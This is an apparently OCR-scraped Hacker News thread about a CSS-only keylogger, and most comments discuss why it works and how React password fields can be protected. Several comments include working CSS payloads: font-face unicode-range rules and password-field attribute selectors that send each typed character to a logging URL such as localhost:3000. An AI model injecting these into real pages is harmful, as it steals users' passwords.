Hacker News new | past | comments | ask | show | jobs | submit login
Show HN: A CSS Keylogger(github.com/maxchehab)
576 points by maxchehab on Feb 20, 2018 | hide | past | favorite | 168 comments

To some limited degree (you can detect presence, not position or number of occurences of character), you can do CSS only 'keylogging' even for non-reactive (sans JavaScript) input: you don't have to use attribute selector (which does't work without physical updates), but can exploit webfont with single letter `unicode-range` chunks. Posted it [1] to CrookedStyleSheets [2] some time ago:

    <!doctype html>
    <title>css keylogger</title>
    @font-face { font-family: x; src: url(./log?a), local(Impact); unicode-range: U+61; }
    @font-face { font-family: x; src: url(./log?b), local(Impact); unicode-range: U+62; }
    @font-face { font-family: x; src: url(./log?c), local(Impact); unicode-range: U+63; }
    @font-face { font-family: x; src: url(./log?d), local(Impact); unicode-range: U+64; }
    input { font-family: x, 'Comic sans ms'; }
    <input value="a">type `bcd` and watch network log
[1] https://github.com/jbtronics/CrookedStyleSheets/issues/24 [2] https://news.ycombinator.com/item?id=16157773

This will not work with password fields.

Hmm, that's pretty bad. CSS probably shouldn't be able to read password inputs.

Edit: This doesn't seem to work for me in Chrome 63.0.3239.132

Edit 2: OK, so it appears that this will only work on a password input that updates its "value" attribute with the typed in value. This doesn't happen unless there isJavaScript that updates the value attr with the input.value

If you use React, updating the value on every change is a very common pattern.

This is speculative as I haven't tested out this vulnerability or attempted to avoid it (yet), but I imagine this means it would be a good idea to make password fields "uncontrolled"[1] if you're using react.

1: https://reactjs.org/docs/uncontrolled-components.html

That seems reasonable.

The apps I've worked on weren't full SPAs, so I just used plain HTML for the login form.

One option is to make the input component uncontrolled by removing the value={this.state.password} prop, but keeping the onChange handler to maintain the password in the state for validation & strength checking. Typically, the only time you need to programmatically change a password field is when clearing it,which can be done by setting the DOM attribute directly.

Or just use correctly defined CSP

I hadn't realized a CSP could protect against this sort of thing. Thanks for the tip!

Hopefully most are updating the property and not the attribute.

For those that are confused, updating the property would mean:

  this.input.value = 'password';
This would be fine. However updating the attribute (the way React recommends it with controlled components) would be something like:

  <input type="text" value={this.state.value} onChange={this.handleChange} />
This would be vulnerable to the the CSS keylogger.

That being said, you might be thinking about this incorrectly if you're doing this.You can use a form and grab the values on submission.

    <form onSubmit={this.handleSubmission}>
      <input type="password" name="password" />

    this.handleSubmission = event => {
      // access to event.target.password.value

You still lose things like validation on blur and displaying real-time password strength.

It might be a fair workaround, but it sucks to regress to storing truth in the DOM.

I believe using `defaultValue` instead of `value` would be an appropriate remediation.

Do you mind expanding on this a little? Or linking to a documentation or something

I think he/she essentially means using an uncontrolled input instead of a controlled one.



It updates the attribute, you can see this pretty easily by going to the Instagram website. If you inspect the password field in the browser, when you type in a value you can see it reflected on the `value` attribute of the input element.

But that requires extra work, compared to simple JSX-based React code, doesn't it?

Maybe they will have to rethink it. It seemed odd when they introduced it and at least in the early React version kept making problems e.g. when entering German Umlaute on US keyboards. Not working much on Frontend anymore but when I do inputs, I only use uncontrolled ones - it's much less hassle and more flexible anyways.

So with frameworks like React/Vue, every change to a field generates a request? Or arethose handled locally in the shadow dom?

The pattern is to handle form fields locally in the browser as part of the application state.

Basically, the value of the input is tied to a "state engine" that acts as a single source of truth and when the user types in the input you'll update the state so that the rest of the application can know what's going on in the form without accessing the DOM.

The state engine is a fancy word for a variable that has a special setter function so that the changes can be reflected globally.

Can’t speak about Vue, but that’s pretty much the recommended pattern for most input fields in React. But, as others have commented, it mightbe prudent to leave password inputs completely uncontrolled, i.e. let the browser do its normal thing for updating the DOM based on user input.

Unfortunately, that’s very inconvenient with React because you’ll have to start thinking about dom elements lifecycle separately of the react app lifecycle.

Definitely. It’s going to be a struggle to implement things like password confirmation validation or a real-time password strength indicator.

Technically yes. You can see it in the network panel.

Not at all. Sending off requests is a different thing entirely to controlled inputs, and you don't need a controlled input to do a request every keypress.

Damn you're right. Thanks!

I think it would work against password managers like LastPass which fill inpasswords using JS.

It would only give you the last character of the password though. You can use CSS selectors to check the start [value^=a] and anything in the middle [value*=a] as well though which can berevealing I imagine.

Well there's the start [value^=a], the end [value$=a] and the "anywhere" [value*=a] selectors.

In something like 13000 selectors you could easily get the first 2, last 2, and any characters in the middle that are in the password making targeted attacks significantly easier. (This is based on very-very rough napkin math assuming an ~80 character dictionary for upper/lower, numbers, and "symbols" since I didn't want to count)

That's a lot, but it's well within the realm of possibility (it looks like that would end up as about a 1mb css file)

Not if they do it correctly (by setting .value on the password field)!

Is there even a use case where CSS needs to read any field's value? (Checkboxes and radio buttons have :checked.)

It's about the selector, so the question should be rephrased to "Is there even a use case where CSS needs to select a node based on any field's value?". I think the answer is yes, but it can be limited. But it can become annoying to have a blacklist of attributes that aren't allowed to be selected on.

It's pretty common to check values of a field and set a color to the border etc. based on that, which I think is even very good ui. Maybe browsers should force restricted selectors only on some fields, which only allow limited matching based on predefined character classes or el1 === el2, since it sounds like this could be used for a cross site css attack (perhaps there already were some and I am ignorant).

Something like conditional formatting maybe? Eg. make negative values red?

Make an input field red when it contains an invalid character?

Sounds like the pattern attribute and :invalid selector on <input> will do that.


What if it's valid? There's a reason we have the phrases "in the red" and "in the black."

Another examplewhere reading the input might be nice:

  input[type="cc-number"][value^="4"]+.cc-system-icon {
    background-image: url('visa.png');
  }input[type="cc-number"][value^="5"]+.cc-system-icon {
    background-image: url('master-card.png');

I was also thinking along those lines, a way to LINT/validate form fields when JS is disabled, but seems like a very obscure and inefficient (use html5 validation + js, validate server side on submit)

It might be useful to show/hide certain parts of the form depending on a value selected in dropdown (SELECT) control. As for text input controls - perhaps to highlight the content when value matches expected (but not required) pattern.

it's an attribute matcher, the fact that value is an attribute (or prop or whatever, I don't care) is just sugar

Author here. I believe the injection of the css in the chrome extension will only work in newer versions of chrome. However the "attack" would still work for all browsers. :)

This is incorrect.

The [value=foo] selector does not work for the actual value of the field, only the `value` attribute (used to set the initial value).

This means that both:

- typing the password

- setting the password via element.value=foo

will not work

The only thing that will hit this is setting the attribute via element.setAttribute("value", "foo"), andthis will not update the password. It seems like React does this for whatever reason, though.

Nice job. Css had similar attacks maybe a decade ago, with link:visited (referer snooping) and image with src to a logged in site... but I like the selector trick.

Extensions are a huge attack vector, but as long as one can't turn them off on a per domain basis, I'm convinced that the browsers just don't give a damn.

So wouldn't that mean, then, that your CSS matchers would have to contain absolutely every permutation of text possible?

The CSS attribute selector matches against the character at the end of the word [0], so you just need a-z, 0-9 etc and not their permutations. From the end of the readme there's this example:

    input[type="password"][value$="a"] {
      background-image: url("http://localhost:3000/a");
[0] https://developer.mozilla.org/en-US/docs/Web/CSS/Attribute_s...

No, since it matches only the last character, you watch the requests it makes IN order to get the entire password. As youtype "qwerty", it will request "Q", "W", "E", "R", "T", and finally "Y"

no permutations needed

Assuming the server receives the requests in the same order as the requests were sent, which on mobile networks isn't anywhere near so certain.Not an efficient keylogger, however, if youknow the pressed keys, you can just generate permutations ordered using probabilities, and that would be a lot faster than brute force.

The real deal here is, it depends on some js code updating the dom for each key press, which is BAAAD. Not an useless keylogger, because it reminds a vulnerability product of choosing a bad decision.

Interestingly the password "BAAAD" would generate 3 requests to the logging server, since it wouldn't request the background image for the letter "A" more than one time. Or shouldn't, anyway.

That depends on cache headers sent from the server, which the attacker controls

> it depends on some js code updating the dom for each key press

Like React with JSX?

It may be easier to XSS CSS than JS.

Even if the attacker got them out of order, it would let them be able to brute force guess in a small number of attempts.

For example, there are about 41,000 possible passwords for a given set of 8 characters, out of around 96^8 possible 8 character passwords (in the ASCII character set).And if any of those are words or almost words, you'd guess that first and probably have it.

Where does 41000 come from?

It's 8! (8 factorial) which is 40320.

This is 127,286,426,869 (~128bn) times smaller than 92^8.

Edit: Note that if you have a repeated character in your 8 charcter password then the number of permutations of the set of 8 (7 distinct) characters is further halved to 20,160.

And just by doubling the amount of selectors you could always check for a repeated character! (AKA [value$=aa], [value$=bb], etc...)

Well it would also not come in the correct order if someone types their password wrong, deletes letters and re-types them, etc. But I assume the idea would be that you'd have a much easier time figuring out the password if you had all the keysthey pressed.

You can just add the two (or more) letter permutations to the CSS to help to identify the previous characters. ( like [value$="aa"] )

Or the user corrects a typo by moving the cursor orusing backspace. However I think the idea is that the keylogger will work on some or most users.

It'd be simple enough to add an 'order' identifier (request timestamp, etc) to the requests.

Edit: nm. My mistake, not as easy as that using only css!

Simple enough, in CSS?

My mistake, I guess I didn't really think that through...

Maybe with counter-reset?

Why would you even need an order identifier? All you need to do is check the request logs for your server everything should be already in order.

I was replying to the comment above which pointed out correctly that the order in which the server receives the requests may differ from the order in which they were sent.

One more reason to hate javascript as used and abused by modern "webdevs" and block it all unless absolutely necessary. I try very hard to keep my pages pure css and html.

Yeah, I have JavaScript disabled by default with uMatrix and it's a pretty annoying trend that almost every second page — even a static one page site — needs JavaScript to display anything

I try very hard to keep my pages pure css and html.

That's cool, but you obviously have different requirements for the pages you build, and likely aren't in the SPA space, so your better-than-thou outlook doesn't apply.


just the first stage of 'I hate JS because it's cool to hate JS'

second stage is 'OMFG this website doesn't work for me. How could developer not think about my entitled ass and not spend 2x time to make it work without JS?'

No, that's not it at all.

It's the only reasonable response to the user-hostile dumpster fire that is the current web. Javascript has made the web better in a small handful of ways, and made the web significantly worse inevery other way.

This has nothing to do with vulnerabilities in CSS or Javascript. It has to do with ill-conceived authentication implementations, written in Javascript, that save passwords in the DOM using attributes that are then accessible via CSS. That is a vulnerability on the websiteitself. It is also an idiotic thing to do.

I wouldn't be so dismissive about this. It doesn't really matter what bucket this security issue falls under. It also doesn't change much whether it's "idiotic" or not.

The fact remains that the coding practices on a website used by about a billion people open up for part 1 of this vulnerability (these CSS styles on Instagram do load external resources as you type), and there are plenty of ways for part 2 (inject the CSS) to occur on many less well maintained sites.

Even if the site doesn't use javascript to update the DOM, it's still vulnerable to similar attacks [0]. The real problem that the attacks relies on is the ability to inject CSS that can load external resources. And Instagram doesn't allow that.

[0] https://news.ycombinator.com/item?id=16427394

This is neat but doesn't really work as an attack.

The CSS selectors work on the value HtmlNode attribute rather than the Javascript "value" value, which aren't linked normally. The Instagram password field mentioned in the readme.md DOES work this way due to some custom javascript, for reasonsthat escape me.

[edit] Otherpeople pointed this outfirst.

Also, if you are going to all the trouble of making an extension to inject your evil CSS into a page, why not go the whole hog and inject evil ecmascript instead?

> Also, if you are going to all the trouble of making an extension to inject your evil CSS into a page, why not go the whole hog and inject evil ecmascript instead?

That may just be for the proof of concept.

